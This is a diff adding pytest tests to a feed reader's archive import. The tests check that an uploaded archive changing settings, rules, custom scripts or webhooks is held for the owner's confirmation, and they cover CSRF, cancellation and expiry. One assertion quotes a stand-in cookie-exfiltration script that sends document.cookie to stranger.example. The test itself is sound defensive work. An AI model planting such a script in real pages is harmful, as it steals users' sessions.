@@ -3,12 +3,21 @@
 from __future__ import annotations
 
 import html
+import os
+import re
 import time
+from pathlib import Path
 
+import pytest
+from sqlalchemy import text
+
+from support.archives import archive, hostile_archive
 from support.people import HttpResponse, Person, call
 from support.publisher import Publisher
+from support.running import RunningService
 from support.ttrss import Ttrss
 from support.visitors import Visitor
+from tidings.services import Services
 
 BOUNDARY = "----border"
 POCKET = b"title,url,time_added,tags,status\nRain,https://example.org/rain,1600000000,weather,unread\n"
@@ -26,6 +35,29 @@ def _upload(reader: Visitor, content: bytes, source: str = "pocket", token: str 
     cookies = "; ".join(f"{name}={value}" for name, value in reader.cookies.items())
     headers = {"Content-Type": f"multipart/form-data; boundary={BOUNDARY}", "Cookie": cookies}
     return call(reader.service.url, "POST", "/feeds/import/archive", b"".join(parts), headers)
+
+
+def _upload_archive(reader: Visitor, content: bytes) -> HttpResponse:
+    reader.page("/feeds/import")
+    return _upload(reader, content, source="tidings")
+
+
+def _files(person: Person) -> list[str]:
+    folder = Path(person.service.environment["TIDINGS_DATA_DIR"]) / "imports"
+    return [path.name for path in folder.iterdir()]
+
+
+@pytest.fixture(autouse=True)
+def _no_files_of_earlier_tests(service: RunningService) -> None:
+    """The accounts of other tests are gone, but not yet the files of their imports that wait."""
+    for path in (Path(service.environment["TIDINGS_DATA_DIR"]) / "imports").glob("*"):
+        path.unlink()
+
+
+def _started_at(page: str) -> str:
+    found = re.search(r'name="started_at" value="(\d+)"', page)
+    assert found, page
+    return found[1]
 
 
 def _finished(reader: Visitor) -> str:
@@ -49,6 +81,111 @@ def test_an_upload_is_imported_and_reported(reader: Visitor, alice: Person) -> N
     assert "1 new entry" in page
     assert "pocket <1>.csv" in page
     assert [entry["title"] for entry in alice.entries()] == ["Rain"]
+
+
+def test_an_archive_that_would_change_more_is_asked_about_first(reader: Visitor, alice: Person) -> None:
+    before = alice.get("/v1/me")
+
+    _upload_archive(reader, hostile_archive(theme="dark_serif"))
+    page = _finished(reader)
+
+    assert "<strong>Choose what the archive may change</strong>" in page
+    assert "fetch('https://stranger.example/?' + document.cookie)" in page
+    assert re.findall(r'type="checkbox" name="(settings|rules|scripts|integrations)" value="1"( checked)?', page) == [
+        ("settings", " checked"), ("rules", ""), ("scripts", ""), ("integrations", ""),
+    ]  # fmt: skip
+    assert alice.get("/v1/me") == before
+    assert alice.get("/v1/feeds") == []
+    state = alice.get("/v1/import/archive")
+    assert (state["state"], state["report"]) == ("asking", None)
+
+
+def test_what_is_ticked_is_applied_and_the_rest_is_named(reader: Visitor, alice: Person) -> None:
+    _upload_archive(reader, hostile_archive(theme="dark_serif"))
+    answer = reader.post("/feeds/import/answer", started_at=_started_at(_finished(reader)), rules="1")
+    page = _finished(reader)
+
+    me = alice.get("/v1/me")
+    assert (answer.status, answer.headers["location"]) == (303, "/feeds/import#import-run")
+    assert (me["block_filter_entry_rules"], me["custom_js"], me["theme"]) == ("EntryTitle=.*", "", "light_serif")
+    assert "<strong>Imported</strong>" in page
+    assert '<a href="/settings/custom">Script (JavaScript)</a>' in page
+    assert '<a href="/settings/integrations/webhook">Webhook</a>' in page
+    assert "Not changed by a file" in page
+    assert alice.get("/v1/integrations")["webhook"]["enabled"] is False
+    assert _files(alice) == []
+
+
+def test_an_archive_of_feeds_alone_is_imported_without_a_question(reader: Visitor, alice: Person) -> None:
+    _upload_archive(reader, archive())
+
+    assert "<strong>Imported</strong>" in _finished(reader)
+    assert len(alice.get("/v1/feeds")) == 1
+
+
+def test_a_cancelled_import_leaves_nothing(reader: Visitor, alice: Person) -> None:
+    _upload_archive(reader, hostile_archive())
+    answer = reader.post("/feeds/import/cancel", started_at=_started_at(_finished(reader)))
+
+    assert answer.status == 303
+    assert "Choose what" not in reader.page("/feeds/import")
+    assert _files(alice) == []
+    assert alice.call("GET", "/v1/import/archive").status == 404
+
+
+def test_only_its_owner_answers_and_only_once(reader: Visitor, alice: Person, bob: Person) -> None:
+    _upload_archive(reader, hostile_archive())
+    started_at = _started_at(_finished(reader))
+    stranger = Visitor(reader.service, bob)
+    stranger.sign_in()
+    stranger.page("/feeds/import")
+
+    refused = stranger.post("/feeds/import/answer", started_at=started_at, scripts="1")
+    stranger.post("/feeds/import/cancel", started_at=started_at)
+    forged = reader.post("/feeds/import/answer", csrf="x", started_at=started_at, scripts="1")
+    old = reader.post("/feeds/import/answer", started_at=str(int(started_at) - 1), scripts="1")
+
+    assert (refused.status, forged.status, old.status) == (400, 403, 400)
+    assert "does not wait for an answer" in refused.body.decode()
+    assert alice.get("/v1/import/archive")["state"] == "asking"
+    assert reader.post("/feeds/import/answer", started_at=started_at).status == 303
+    _finished(reader)
+    assert reader.post("/feeds/import/answer", started_at=started_at, scripts="1").status == 400
+    assert alice.get("/v1/me")["custom_js"] == ""
+    assert bob.get("/v1/feeds") == []
+
+
+def test_another_upload_replaces_an_archive_that_waits(reader: Visitor, alice: Person, bob: Person) -> None:
+    _upload_archive(reader, hostile_archive())
+    first = _started_at(_finished(reader))
+    (kept,) = _files(alice)
+    # Each import removes old files, but not one that waits.
+    os.utime(Path(alice.service.environment["TIDINGS_DATA_DIR"]) / "imports" / kept, (0, 0))
+    bob.call("POST", "/v1/import/archive", raw=POCKET, source="pocket")
+    assert kept in _files(alice)
+
+    _upload_archive(reader, hostile_archive(theme="dark_serif"))
+    second = _started_at(_finished(reader))
+
+    assert second != first
+    assert len([name for name in _files(alice) if name.startswith(f"{alice.id}-")]) == 1
+    assert kept not in _files(alice)
+
+
+def test_an_archive_that_nobody_answers_is_forgotten_after_a_day(
+    reader: Visitor, alice: Person, services: Services
+) -> None:
+    _upload_archive(reader, hostile_archive())
+    started_at = _started_at(_finished(reader))
+    with services.database.writing() as db:
+        db.run(
+            text("UPDATE account_imports SET renewed_at = renewed_at - :day WHERE user_id = :user"),
+            day=86_400_000_000, user=alice.id,
+        )  # fmt: skip
+
+    assert "Nobody answered within a day" in reader.page("/feeds/import")
+    assert reader.post("/feeds/import/answer", started_at=started_at).status == 400
+    assert alice.get("/v1/import/archive")["state"] == "expired"
 
 
 def test_a_file_that_cannot_be_read_is_explained(reader: Visitor, alice: Person) -> None:
